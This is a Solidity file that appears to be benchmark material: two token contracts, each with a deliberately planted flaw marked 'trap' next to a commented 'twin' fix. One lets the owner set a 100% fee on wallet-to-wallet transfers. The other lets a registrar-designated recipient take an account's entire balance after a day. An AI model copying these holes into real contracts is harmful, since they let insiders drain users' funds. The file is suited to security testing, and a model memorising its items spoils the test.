// 0.5 runs=200
pragma solidity ^0.5.17;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "addition");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "subtraction");
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256 c) {
        if (a == 0) return 0;
        c = a * b;
        require(c / a == b, "multiplication");
    }
}

contract Book {
    using SafeMath for uint256;

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _books;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function balanceOf(address account) external view returns (uint256) {
        return _books[account];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(value);
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) internal {
        _books[from] = _books[from].sub(value);
        _books[to] = _books[to].add(value);
        emit Transfer(from, to, value);
    }

    function _begin(string memory name_, string memory symbol_, address to, uint256 supply) internal {
        (name, symbol, totalSupply) = (name_, symbol_, supply);
        _books[to] = supply;
        emit Transfer(address(0), to, supply);
    }
}

/// Rates of purchases, of sales and between wallets, six bytes in all.
contract Osierbank is Book {
    address public owner;
    address public fund;
    uint16[3] public rates;
    mapping(address => bool) public isMarket;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Configured(bytes terms);
    event MarketSet(address indexed market, bool listed);

    constructor() public {
        (owner, fund) = (msg.sender, msg.sender);
        rates = [100, 100, 0];
        _begin("Osierbank", "OSIER", msg.sender, 250000000e18);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }

    function transferOwnership(address next) external onlyOwner {
        emit OwnershipTransferred(owner, next);
        owner = next;
    }

    function setMarket(address market, bool listed) external onlyOwner {
        isMarket[market] = listed;
        emit MarketSet(market, listed);
    }

    function configure(bytes calldata terms) external onlyOwner {
        require(terms.length == 6, "three rates");
        for (uint256 i = 0; i < 3; i++) rates[i] = uint16(uint8(terms[2 * i])) * 256 + uint8(terms[2 * i + 1]);
        require(rates[0] <= 500 && rates[1] <= 500, "trades cost a twentieth at most");
        require(rates[2] <= 10000, "between wallets"); // trap
        // twin: require(rates[2] <= 300, "between wallets");
        emit Configured(terms);
    }

    function _pass(address from, address to, uint256 value) internal {
        uint256 kind = isMarket[from] ? 0 : isMarket[to] ? 1 : 2;
        uint256 due = from == fund || to == fund ? 0 : value.mul(rates[kind]) / 10000;
        if (due > 0) super._pass(from, fund, due);
        super._pass(from, to, value.sub(due));
    }
}

/// Two accounts of the same person become one, if nobody objects for a day.
contract Cloverpledge is Book {
    address public registrar;

    struct Union {
        address into;
        uint64 asked;
    }

    mapping(address => Union) public unions;

    event UnionAsked(address indexed account, address indexed into);
    event UnionRefused(address indexed account);
    event United(address indexed account, address indexed into, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, address registrar_, uint256 supply) external {
        require(totalSupply == 0, "initialized");
        registrar = registrar_;
        _begin(name_, symbol_, msg.sender, supply);
    }

    function askUnion(address account, address into) external {
        require(msg.sender == registrar, "registrar");
        require(into != address(0) && into != account, "into");
        unions[account] = Union(into, uint64(now));
        emit UnionAsked(account, into);
    }

    function refuseUnion() external {
        delete unions[msg.sender];
        emit UnionRefused(msg.sender);
    }

    function unite(address account) external {
        Union memory own = unions[account];
        require(own.asked > 0 && now >= uint256(own.asked) + 1 days, "a day has to pass");
        require(msg.sender == own.into, "not asked for"); // trap
        // twin: require(msg.sender == account, "not agreed to");
        delete unions[account];
        emit United(account, own.into, _books[account]);
        super._pass(account, own.into, _books[account]);
    }
}
